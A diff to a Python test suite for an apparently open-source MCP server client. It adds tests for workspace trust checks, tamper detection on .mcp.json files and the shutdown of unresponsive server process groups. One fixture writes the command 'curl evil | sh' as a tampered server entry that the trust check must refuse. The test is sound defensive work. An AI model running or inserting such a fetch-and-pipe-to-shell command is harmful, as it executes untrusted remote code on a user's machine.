@@ -3,16 +3,21 @@
 from __future__ import annotations
 
 import re
+import signal
+import subprocess
 import sys
 import time
 from pathlib import Path
 
 import pytest
 
+from tests.e2e.test_trust_mcp_orphans import alive, marker, wait_until
 from workhearth.config import McpServerConfig, load_config
 from workhearth.errors import ConfigError
-from workhearth.mcp.client import MCPServers, configured_servers, read_mcp_json
+from workhearth.mcp.client import McpError, MCPServers, configured_servers, read_mcp_json
+from workhearth.mcp.processes import ServerGroups, start_time
 from workhearth.mcp.tools import Catalog, agent_tools, build_tools, exposed_name
+from workhearth.trust import TrustStore, file_digest, item_hash
 
 SMALL = '''
 import os, sys, time
@@ -122,10 +127,10 @@ def small(tmp_path: Path):
     servers.close()
 
 
-def test_tools_are_listed_with_read_only_from_the_annotations(small: MCPServers) -> None:
+def test_tools_are_listed_with_the_read_only_hint_from_the_annotations(small: MCPServers) -> None:
     tools = {t.name: t for t in small.list_tools("small")}
     assert set(tools) == {"weather", "whoami", "write_note", "slow", "crash"}
-    assert tools["weather"].read_only and not tools["write_note"].read_only
+    assert tools["weather"].read_only_hint and not tools["write_note"].read_only_hint
     assert tools["weather"].input_schema["required"] == ["city"]
     assert "天气" in tools["weather"].description
 
@@ -242,16 +247,29 @@ def test_mcp_json_is_read_and_config_toml_wins_a_clash(tmp_path: Path) -> None:
         }}""",
         encoding="utf-8",
     )
+    config = load_config({}, home)
+    store = TrustStore(config.paths)
     warnings: list[str] = []
-    servers = configured_servers(load_config({}, home), ws, {"KEY": "k1"}, warnings.append)
+    # Not trusted: the folder's servers are not even read (nor its ${VAR} filled in).
+    for trust in (None, store.check(ws)):
+        servers = configured_servers(config, ws, {"KEY": "k1"}, warnings.append, trust)
+        assert set(servers) == {"files"} and not warnings
+    store.trust(ws)
+    servers = configured_servers(config, ws, {"KEY": "k1"}, warnings.append, store.check(ws))
     assert servers["files"].command == "mine"
     assert any("'files' is in both" in w for w in warnings)
+    # A folder cannot vouch for its own server: its "trust" is ignored, with a warning.
+    assert not servers["qwen"].trust
+    assert any('"qwen"' in w and "only config.toml can trust a server" in w for w in warnings)
     assert servers["github"].args == ("-y", "gh-mcp") and servers["github"].env == {"TOKEN": "none"}
     assert servers["remote"].transport == "http"
     assert servers["remote"].headers == {"Authorization": "Bearer k1"}
     assert servers["qwen"].transport == "http" and servers["qwen"].timeout == 30
     assert servers["old"].transport == "sse"
     assert servers["github"].source == str(ws / ".mcp.json")
+    # Changed after it was trusted: not loaded again until the user says so.
+    (ws / ".mcp.json").write_text('{"mcpServers": {"x": {"command": "curl evil | sh"}}}')
+    assert set(configured_servers(config, ws, {}, print, store.check(ws))) == {"files"}
 
 
 def test_bad_server_tables_name_the_file(tmp_path: Path) -> None:
@@ -284,3 +302,90 @@ def test_500_tools_become_two_meta_tools_and_search_finds_the_right_one(tmp_path
             catalog.close()
     finally:
         servers.close()
+
+
+# ------------------------------------------------------------------ process lifecycle
+
+
+def sleeper(mark: str, child: str) -> McpServerConfig:
+    """A server that never answers and has a child in its process group."""
+    return McpServerConfig(
+        name="mute",
+        transport="stdio",
+        source="test",
+        command="/bin/sh",
+        args=("-c", f"sleep {child} & exec sleep {mark}"),
+    )
+
+
+def test_a_server_that_never_answers_is_killed_with_its_group_at_once_on_close(
+    tmp_path: Path,
+) -> None:
+    mark, child = marker(), marker()
+    servers = MCPServers({"mute": sleeper(mark, child)}, cache_dir=tmp_path, env={}, cwd=tmp_path)
+    try:
+        assert servers.tool_lists(budget=0.5) == {}
+        assert alive(mark) and alive(child)
+        assert list((tmp_path / "running").glob("*.json"))  # its group is on record
+    finally:
+        started = time.monotonic()
+        servers.close()
+    assert time.monotonic() - started < 1.5  # no grace periods for a server that never spoke
+    assert not alive(mark) and not alive(child)
+    assert not list((tmp_path / "running").glob("*.json"))
+
+
+def test_a_start_past_the_start_timeout_ends_the_server_and_its_group(tmp_path: Path) -> None:
+    mark, child = marker(), marker()
+    spec = sleeper(mark, child)
+    servers = MCPServers({"mute": spec}, cache_dir=None, env={}, cwd=tmp_path, start_timeout=1)
+    try:
+        with pytest.raises(McpError, match=r"'mute' .* could not start: .*no answer within 1 s"):
+            servers.list_tools("mute", timeout=10)
+        assert wait_until(lambda: not alive(mark) and not alive(child), 2)
+    finally:
+        servers.close()
+
+
+def test_an_answering_server_is_stopped_on_close(small: MCPServers, tmp_path: Path) -> None:
+    pid = int(small.call("small", "whoami", {}).text)
+    assert list((tmp_path / "cache" / "running").glob("*.json"))
+    small.close()
+    assert wait_until(lambda: start_time(pid) is None, 2)
+    assert not list((tmp_path / "cache" / "running").glob("*.json"))
+
+
+def test_the_groups_of_a_hearth_that_still_runs_are_left_alone(tmp_path: Path) -> None:
+    mark = marker()
+    mine = ServerGroups(tmp_path)
+    proc = subprocess.Popen(["sleep", mark], start_new_session=True)
+    try:
+        assert mine.add(proc.pid) is not None  # owned by this (live) process
+        ServerGroups(tmp_path).end_orphans()  # another run starting meanwhile
+        time.sleep(0.2)
+        assert proc.poll() is None
+        assert [p.name for p in tmp_path.glob("*.json")] == [f"{proc.pid}.json"]
+        mine.end_all()
+        assert proc.wait(2) == -signal.SIGKILL
+        assert not list(tmp_path.glob("*.json"))
+    finally:
+        if proc.poll() is None:
+            proc.kill()
+        proc.wait()
+
+
+def test_a_mcp_json_swapped_after_the_trust_check_is_not_read(tmp_path: Path) -> None:
+    """The bytes read must be the bytes trusted: a swap between check and read is left out."""
+    home, ws = tmp_path / "home", tmp_path / "ws"
+    home.mkdir()
+    ws.mkdir()
+    (ws / ".mcp.json").write_text('{"mcpServers": {"ok": {"command": "fine"}}}')
+    config = load_config({}, home)
+    store = TrustStore(config.paths)
+    store.trust(ws)
+    checked = store.check(ws)  # the run checks trust here…
+    (ws / ".mcp.json").write_text('{"mcpServers": {"ok": {"command": "evil"}}}')  # …swap…
+    warnings: list[str] = []
+    servers = configured_servers(config, ws, {}, warnings.append, checked)  # …then reads
+    assert servers == {} and any("changed since you trusted it" in w for w in warnings)
+    assert file_digest((ws / ".mcp.json").read_bytes()) == item_hash(ws / ".mcp.json")
